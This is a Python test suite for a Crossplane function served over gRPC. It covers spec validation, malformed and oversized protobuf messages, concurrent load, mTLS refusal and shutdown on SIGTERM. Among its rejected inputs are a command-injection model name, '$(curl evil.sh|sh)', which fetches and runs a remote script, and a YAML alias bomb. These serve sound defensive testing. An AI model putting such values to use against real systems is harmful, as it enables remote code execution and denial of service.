"""function-modelapi over real gRPC on loopback, started the way a Function package runs it:
`python -m function --insecure --address 127.0.0.1:PORT`, or with mTLS as Crossplane calls it
(`--tls-server-certs-dir` holding tls.crt, tls.key and ca.crt).

The load test prints its figures; see them with `-s`:
    .venv/bin/python -m pytest tests/realtools/test_server.py -s -k load
"""

import asyncio
import base64
import itertools
import signal
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import grpc
import pytest
from crossplane.function import resource
from crossplane.function.proto.v1 import run_function_pb2 as fnv1
from crossplane.function.proto.v1 import run_function_pb2_grpc as grpcv1

from function import names
from function.fn import PODS
from tests.support import builders
from tests.support.builders import request
from tests.support.server import Server, start_server
from tests.support.tls import issue, make_ca

METHOD = "/apiextensions.fn.proto.v1.FunctionRunnerService/RunFunction"
MB = 1024 * 1024
DEFAULT_MAX_MESSAGE = 4 * MB  # the SDK's --max-recv-message-size default
CALL_TIMEOUT = 30


# --------------------------------------------------------------------------------------------
# The server process
# --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Iterator[Server]:
    s = start_server(tmp_path_factory.mktemp("server"), "--insecure")
    yield s
    s.stop()


@pytest.fixture
def stub(server) -> Iterator[grpcv1.FunctionRunnerServiceStub]:
    with grpc.insecure_channel(server.address) as channel:
        yield grpcv1.FunctionRunnerServiceStub(channel)


# --------------------------------------------------------------------------------------------
# Requests and what a correct answer looks like
# --------------------------------------------------------------------------------------------


def xr(spec: object, name: str = "m", **meta: object) -> dict:
    return builders.xr(spec, name=name, **meta)  # type: ignore[arg-type]


PROXY = {"mode": "Proxy", "proxyConfig": {"apiBase": "http://ollama.ollama.svc:11434"}}
HOSTED = {"mode": "Hosted", "serverConfig": {"model": "smollm2:135m", "resources": {"requests": {"memory": "2Gi"}}}}
MULTI_MODEL = {
    "mode": "Proxy",
    "proxyConfig": {
        "configYaml": "model_list:\n"
        "  - model_name: fast\n    litellm_params: {model: ollama/smollm2:135m, api_base: 'http://ollama:11434'}\n"
        "  - model_name: smart\n    litellm_params: {model: gpt-4o, api_key: os.environ/OPENAI_API_KEY}\n",
        "env": [{"name": "OPENAI_API_KEY", "valueFrom": {"secretKeyRef": {"name": "secrets", "key": "openai"}}}],
    },
}
ALIAS_BOMB = "a: &a [x, x, x, x]\nb: &b [*a, *a, *a, *a]\nc: [*b, *b, *b, *b]\nmodel_list: [*c]\n"


def fatal_messages(rsp: fnv1.RunFunctionResponse) -> list[str]:
    return [r.message for r in rsp.results if r.severity == fnv1.SEVERITY_FATAL]


Check = Callable[[fnv1.RunFunctionResponse], list[str]]


def composed(endpoint: str, phase: str = "Pending", keys: tuple[str, ...] = ()) -> Check:
    """A correct answer for a valid spec: the objects, and a status naming the endpoint."""
    wanted = {names.DEPLOYMENT, names.SERVICE, names.CLIENT_SECRET, *keys}

    def check(rsp: fnv1.RunFunctionResponse) -> list[str]:
        problems = [f"fatal: {m}" for m in fatal_messages(rsp)]
        got = builders.kinds_of_keys(rsp.desired.resources.keys())
        if got != wanted:
            problems.append(f"resources {sorted(got)} != {sorted(wanted)}")
        status = resource.struct_to_dict(rsp.desired.composite.resource).get("status", {})
        if status.get("endpoint") != endpoint or status.get("phase") != phase:
            problems.append(f"status {status}")
        return problems

    return check


def rejected(prefix: str) -> Check:
    """A correct answer for an invalid spec: one fatal result naming the field, nothing composed."""

    def check(rsp: fnv1.RunFunctionResponse) -> list[str]:
        fatals = fatal_messages(rsp)
        problems = []
        if len(fatals) != 1 or not fatals[0].startswith(prefix):
            problems.append(f"fatal results {fatals}, wanted one starting {prefix!r}")
        if len(rsp.desired.resources):
            problems.append(f"composed {sorted(rsp.desired.resources.keys())}")
        return problems

    return check


def _endpoint(name: str, namespace: str, port: int) -> str:
    return f"http://{name}.{namespace}.svc.cluster.local:{port}"


def mixed_requests() -> list[tuple[str, fnv1.RunFunctionRequest, Check]]:
    """Valid and invalid specs, each with the check of a correct answer."""
    proxy_key = base64.b64encode(b"sk-kept-from-the-observed-secret").decode()
    ready = {
        names.DEPLOYMENT: {"apiVersion": "apps/v1", "kind": "Deployment", "status": {"availableReplicas": 1}},
        names.CLIENT_SECRET: {"apiVersion": "v1", "kind": "Secret", "data": {names.CLIENT_API_KEY_KEY: proxy_key}},
    }
    claim = {
        "apiVersion": names.API_VERSION,
        "kind": "XModelAPI",
        "metadata": {
            "name": "team-llm-x7k2p",
            "labels": {"crossplane.io/claim-name": "team-llm", "crossplane.io/claim-namespace": "team-b"},
        },
        "spec": {**PROXY, "claimRef": {"name": "team-llm", "namespace": "team-b"}},
    }
    proxy_ep = _endpoint("m", "team-a", names.PROXY_PORT)
    config = (names.LITELLM_CONFIG,)
    return [
        ("valid", request(xr(PROXY)), composed(proxy_ep, keys=config)),
        ("valid", request(xr(PROXY), ready), composed(proxy_ep, "Ready", config)),
        (
            "valid",
            request(xr(HOSTED, name="ollama")),
            composed(_endpoint("ollama", "team-a", names.OLLAMA_PORT), keys=(names.NETWORK_POLICY,)),
        ),
        ("valid", request(xr(MULTI_MODEL, name="multi")), composed(_endpoint("multi", "team-a", 8000), keys=config)),
        ("valid", request(claim), composed(_endpoint("team-llm", "team-b", names.PROXY_PORT), keys=config)),
        (
            "valid",
            request(xr({**PROXY, "proxyConfig": {**PROXY["proxyConfig"], "model": "ollama/smollm2:135m"}})),
            composed(proxy_ep, keys=config),
        ),
        (
            "invalid",
            request(xr({"mode": "Hosted", "serverConfig": {"model": "$(curl evil.sh|sh)"}})),
            rejected("spec.serverConfig.model:"),
        ),
        (
            "invalid",
            request(xr({"mode": "Proxy", "proxyConfig": {"configYaml": ALIAS_BOMB}})),
            rejected("spec.proxyConfig.configYaml:"),
        ),
        ("invalid", request({"metadata": {"name": "m", "namespace": "n"}}), rejected("spec")),
        ("invalid", request({"spec": PROXY}), rejected("metadata")),
        (
            "invalid",
            request(xr({**PROXY, "proxyConfig": {**PROXY["proxyConfig"], "env": [{"name": "A"}, {"name": "A"}]}})),
            rejected("spec.proxyConfig.env:"),
        ),
        ("invalid", request(xr({"mode": "Serverless"})), rejected("spec.mode:")),
    ]


# --------------------------------------------------------------------------------------------
# Malformed and oversized messages
# --------------------------------------------------------------------------------------------


def _valid_bytes() -> bytes:
    return request(xr(PROXY)).SerializeToString()


def _nested_struct_bytes(depth: int) -> bytes:
    """A request whose input Struct nests deeper than protobuf's parse recursion limit (100),
    encoded by hand: Struct.update refuses such depth."""
    struct = b""
    for _ in range(depth):
        value = _field(5, struct)  # Value.struct_value
        entry = _field(1, b"n") + _field(2, value)  # a map entry: key, value
        struct = _field(1, entry)  # Struct.fields
    return _valid_bytes() + _field(4, struct)  # RunFunctionRequest.input


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b, n = n & 0x7F, n >> 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def _field(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _bad_utf8_bytes() -> bytes:
    req = request(xr(PROXY), tag="TAG")
    raw = req.SerializeToString()
    return raw.replace(b"TAG", b"\xff\xfe\xfd")  # meta.tag: a proto3 string must be UTF-8


MALFORMED = {
    "garbage": b"\xff" * 64,
    "truncated": _valid_bytes()[:-7],
    "wrong-wire-type": b"\x0f\x00\x00\x00",
    "length-past-the-end": b"\x12\xff\xff\xff\x0f" + b"x" * 10,
    "invalid-utf8-string": _bad_utf8_bytes(),
    "nesting-past-the-recursion-limit": _nested_struct_bytes(200),
}


def assert_serves_a_valid_request(stub: grpcv1.FunctionRunnerServiceStub) -> None:
    rsp = stub.RunFunction(request(xr(PROXY)), timeout=CALL_TIMEOUT)
    assert composed(_endpoint("m", "team-a", names.PROXY_PORT), keys=(names.LITELLM_CONFIG,))(rsp) == []


def test_a_valid_request_is_served(stub):
    assert_serves_a_valid_request(stub)


@pytest.mark.parametrize("payload", MALFORMED.values(), ids=MALFORMED.keys())
def test_bytes_that_are_not_a_request_get_an_error_and_serving_goes_on(server, stub, payload):
    with grpc.insecure_channel(server.address) as channel:
        raw = channel.unary_unary(METHOD)  # no serializers: bytes as they are
        with pytest.raises(grpc.RpcError) as err:
            raw(payload, timeout=CALL_TIMEOUT)
    # grpc.aio answers a request it cannot deserialize with UNKNOWN ("Unexpected DecodeError").
    assert err.value.code() in {grpc.StatusCode.UNKNOWN, grpc.StatusCode.INTERNAL, grpc.StatusCode.INVALID_ARGUMENT}
    assert server.proc.poll() is None
    assert_serves_a_valid_request(stub)


def test_a_request_with_unknown_fields_is_served(server, stub):
    """Newer Crossplane versions send fields this SDK does not know: they are skipped."""
    payload = _valid_bytes() + _field(999, b"from the future")
    with grpc.insecure_channel(server.address) as channel:
        raw = channel.unary_unary(METHOD)
        rsp = fnv1.RunFunctionResponse.FromString(raw(payload, timeout=CALL_TIMEOUT))
    assert fatal_messages(rsp) == []
    assert names.DEPLOYMENT in rsp.desired.resources


def test_an_unknown_method_is_unimplemented_and_serving_goes_on(server, stub):
    nope = "/apiextensions.fn.proto.v1.FunctionRunnerService/Nope"
    with grpc.insecure_channel(server.address) as channel, pytest.raises(grpc.RpcError) as err:
        channel.unary_unary(nope)(b"", timeout=CALL_TIMEOUT)
    assert err.value.code() == grpc.StatusCode.UNIMPLEMENTED
    assert_serves_a_valid_request(stub)


def _request_of_size(size: int) -> fnv1.RunFunctionRequest:
    """A request of about `size` bytes: one env value that long (the spec allows 32 KiB)."""
    env = [{"name": "BIG", "value": "x" * size}]
    return request(xr({**PROXY, "proxyConfig": {**PROXY["proxyConfig"], "env": env}}))


def test_a_request_over_the_message_limit_gets_resource_exhausted_and_serving_goes_on(server, stub):
    req = _request_of_size(DEFAULT_MAX_MESSAGE + MB)
    assert req.ByteSize() > DEFAULT_MAX_MESSAGE
    with pytest.raises(grpc.RpcError) as err:
        stub.RunFunction(req, timeout=CALL_TIMEOUT)
    assert err.value.code() == grpc.StatusCode.RESOURCE_EXHAUSTED, err.value
    assert server.proc.poll() is None
    assert_serves_a_valid_request(stub)


def test_a_request_just_under_the_limit_is_answered_with_a_fatal_result(stub):
    req = _request_of_size(DEFAULT_MAX_MESSAGE - 64 * 1024)
    assert req.ByteSize() < DEFAULT_MAX_MESSAGE
    rsp = stub.RunFunction(req, timeout=CALL_TIMEOUT)
    assert rejected("spec.proxyConfig.env[0].value:")(rsp) == []


def test_the_v1beta1_service_is_served_too(server):
    """Crossplane versions before v1 call the beta service; the SDK bridges it."""
    from crossplane.function.proto.v1beta1 import run_function_pb2 as beta
    from crossplane.function.proto.v1beta1 import run_function_pb2_grpc as beta_grpc

    with grpc.insecure_channel(server.address) as channel:
        req = beta.RunFunctionRequest.FromString(request(xr(PROXY)).SerializeToString())
        rsp = beta_grpc.FunctionRunnerServiceStub(channel).RunFunction(req, timeout=CALL_TIMEOUT)
    assert names.DEPLOYMENT in rsp.desired.resources


# --------------------------------------------------------------------------------------------
# Load: many clients at once, valid and invalid specs mixed
# --------------------------------------------------------------------------------------------


def unique(template: fnv1.RunFunctionRequest, i: int) -> fnv1.RunFunctionRequest:
    """The request as a new version of its XR would send it: never answered from a cache."""
    req = fnv1.RunFunctionRequest()
    req.CopyFrom(template)
    composite = req.observed.composite.resource
    if "metadata" in composite.fields and composite.fields["metadata"].HasField("struct_value"):
        composite.fields["metadata"].struct_value.fields["resourceVersion"].string_value = str(i)
    else:
        composite.fields["resourceVersion"].string_value = str(i)  # an XR without metadata
    return req


LOAD_REQUESTS = 3000
LOAD_CLIENTS = 32
LOAD_TIME_CAP = 120  # seconds
PEAK_RSS_BOUND_MIB = 200


def test_load_many_concurrent_clients_every_answer_correct(server):
    cases = mixed_requests()
    counter = itertools.count()
    failed: list[str] = []  # calls that got no answer
    wrong: list[str] = []  # answers that were not the right one
    done = {"valid": 0, "invalid": 0}
    rss_before = server.rss_kib()

    async def client(channel: grpc.aio.Channel, deadline: float) -> None:
        stub = grpcv1.FunctionRunnerServiceStub(channel)
        while (i := next(counter)) < LOAD_REQUESTS and time.monotonic() < deadline:
            kind, template, check = cases[i % len(cases)]
            req = unique(template, i)
            try:
                rsp = await stub.RunFunction(req, timeout=CALL_TIMEOUT)
            except grpc.aio.AioRpcError as e:
                failed.append(f"{kind} #{i}: {e.code()}: {e.details()}")
                continue
            done[kind] += 1
            wrong.extend(f"{kind} #{i}: {p}" for p in check(rsp))

    async def load() -> float:
        channels = [grpc.aio.insecure_channel(server.address) for _ in range(LOAD_CLIENTS)]
        try:
            start = time.monotonic()
            await asyncio.gather(*(client(c, start + LOAD_TIME_CAP) for c in channels))
            return time.monotonic() - start
        finally:
            await asyncio.gather(*(c.close() for c in channels))

    elapsed = asyncio.run(load())
    answered = done["valid"] + done["invalid"]
    peak = server.peak_rss_kib() / 1024
    print(
        f"\nload: {answered} answered ({done['valid']} valid, {done['invalid']} invalid, all distinct), "
        f"{len(failed)} failed, {len(wrong)} wrong; {LOAD_CLIENTS} concurrent clients; "
        f"{elapsed:.1f} s, {answered / elapsed:.0f} requests/s; "
        f"server RSS {rss_before / 1024:.1f} MiB before, peak (VmHWM) {peak:.1f} MiB"
    )
    assert not failed, failed[:5]
    assert not wrong, wrong[:5]
    assert answered >= min(LOAD_REQUESTS, 500), "too few answers within the time cap"
    assert peak < PEAK_RSS_BOUND_MIB
    assert server.proc.poll() is None


# --------------------------------------------------------------------------------------------
# mTLS, as Crossplane calls a function
# --------------------------------------------------------------------------------------------


@dataclass
class Pki:
    ca: bytes
    server_crt: bytes
    server_key: bytes
    client_crt: bytes
    client_key: bytes
    other_client_crt: bytes  # signed by a CA the server does not trust
    other_client_key: bytes


@pytest.fixture(scope="module")
def pki() -> Pki:
    # The same certificates as the e2e control plane makes for Crossplane and the function.
    ca = make_ca("function-modelapi test CA")
    server = issue(ca, "function-modelapi", server=True)
    client = issue(ca, "crossplane", client=True)
    other = issue(make_ca("some other CA"), "crossplane", client=True)
    return Pki(
        ca=ca.cert_pem(),
        server_crt=server.cert_pem(),
        server_key=server.key_pem(),
        client_crt=client.cert_pem(),
        client_key=client.key_pem(),
        other_client_crt=other.cert_pem(),
        other_client_key=other.key_pem(),
    )


@pytest.fixture(scope="module")
def tls_server(tmp_path_factory, pki) -> Iterator[Server]:
    certs = tmp_path_factory.mktemp("tls")
    (certs / "tls.crt").write_bytes(pki.server_crt)
    (certs / "tls.key").write_bytes(pki.server_key)
    (certs / "ca.crt").write_bytes(pki.ca)
    s = start_server(certs, "--tls-server-certs-dir", str(certs))
    yield s
    s.stop()


def _call_over(channel: grpc.Channel) -> fnv1.RunFunctionResponse:
    return grpcv1.FunctionRunnerServiceStub(channel).RunFunction(request(xr(PROXY)), timeout=10)


def test_mtls_a_client_with_a_certificate_from_the_trusted_ca_is_served(tls_server, pki):
    creds = grpc.ssl_channel_credentials(
        root_certificates=pki.ca, private_key=pki.client_key, certificate_chain=pki.client_crt
    )
    with grpc.secure_channel(tls_server.address, creds) as channel:
        rsp = _call_over(channel)
    assert composed(_endpoint("m", "team-a", names.PROXY_PORT), keys=(names.LITELLM_CONFIG,))(rsp) == []


@pytest.mark.parametrize("client", ["no-client-certificate", "certificate-from-another-ca", "plaintext"])
def test_mtls_a_client_without_a_trusted_certificate_is_refused(tls_server, pki, client):
    if client == "plaintext":
        channel = grpc.insecure_channel(tls_server.address)
    elif client == "no-client-certificate":
        channel = grpc.secure_channel(tls_server.address, grpc.ssl_channel_credentials(root_certificates=pki.ca))
    else:
        creds = grpc.ssl_channel_credentials(
            root_certificates=pki.ca, private_key=pki.other_client_key, certificate_chain=pki.other_client_crt
        )
        channel = grpc.secure_channel(tls_server.address, creds)
    with channel, pytest.raises(grpc.RpcError) as err:
        _call_over(channel)
    assert err.value.code() == grpc.StatusCode.UNAVAILABLE, err.value
    assert tls_server.proc.poll() is None


# --------------------------------------------------------------------------------------------
# SIGTERM with requests in flight
# --------------------------------------------------------------------------------------------

IN_FLIGHT = 12


def _pod(i: int) -> dict:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": f"pod-{i}", "namespace": "team-a", "creationTimestamp": f"2026-01-01T00:00:{i % 60:02d}Z"},
        "spec": {"containers": [{"name": "litellm", "env": [{"name": f"E{k}", "value": "v"} for k in range(20)]}]},
        "status": {"phase": "Pending", "containerStatuses": [{"name": "litellm", "state": {"waiting": {}}}]},
    }


def _slow_request(i: int, pods: int) -> tuple[fnv1.RunFunctionRequest, Check]:
    """A valid, distinct request for a ModelAPI still Pending, with `pods` pods to look through
    for the reason: 100 pods take ~0.02 s, 1500 ~0.3 s (longer than the server's 0.2 s settle)."""
    name = f"slow-{i}"
    req = request(xr(PROXY, name=name), {names.DEPLOYMENT: {"apiVersion": "apps/v1", "kind": "Deployment"}})
    items = req.required_resources[PODS].items
    for j in range(pods):
        items.add().resource.update(_pod(j))
    return req, composed(_endpoint(name, "team-a", names.PROXY_PORT), keys=(names.LITELLM_CONFIG,))


@pytest.mark.parametrize("pods", [100, 1500], ids=["short-calls", "calls-longer-than-the-settle-time"])
def test_sigterm_lets_requests_in_flight_finish_then_exits_0(tmp_path, pods):
    """Kubernetes sends SIGTERM on every rollout of the function: what Crossplane has already
    sent must be answered, not cancelled, within the grace period (5 s), however long each call."""
    server = start_server(tmp_path, "--insecure")
    try:
        calls = [_slow_request(i, pods) for i in range(IN_FLIGHT)]

        async def in_flight() -> list[object]:
            async with grpc.aio.insecure_channel(server.address) as channel:
                stub = grpcv1.FunctionRunnerServiceStub(channel)
                tasks = [asyncio.ensure_future(stub.RunFunction(req, timeout=CALL_TIMEOUT)) for req, _ in calls]
                # Once one is answered the server is busy and every request has been sent.
                await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
                await asyncio.sleep(0.1)
                answered_before = sum(t.done() for t in tasks)
                assert answered_before < IN_FLIGHT, "all answered before SIGTERM: make the requests heavier"
                server.proc.send_signal(signal.SIGTERM)
                return await asyncio.gather(*tasks, return_exceptions=True)

        outcomes = asyncio.run(in_flight())
        code = server.proc.wait(timeout=15)
    finally:
        server.stop()
    problems = []
    for i, (outcome, (_, check)) in enumerate(zip(outcomes, calls, strict=True)):
        if isinstance(outcome, grpc.aio.AioRpcError):
            problems.append(f"#{i}: {outcome.code()}: {outcome.details()}")
        elif isinstance(outcome, BaseException):
            problems.append(f"#{i}: {outcome!r}")
        else:
            problems += [f"#{i}: {p}" for p in check(outcome)]  # type: ignore[arg-type]
    assert problems == [], f"{len(problems)} of {IN_FLIGHT} requests in flight at SIGTERM: {problems}"
    assert code == 0, server.logs()
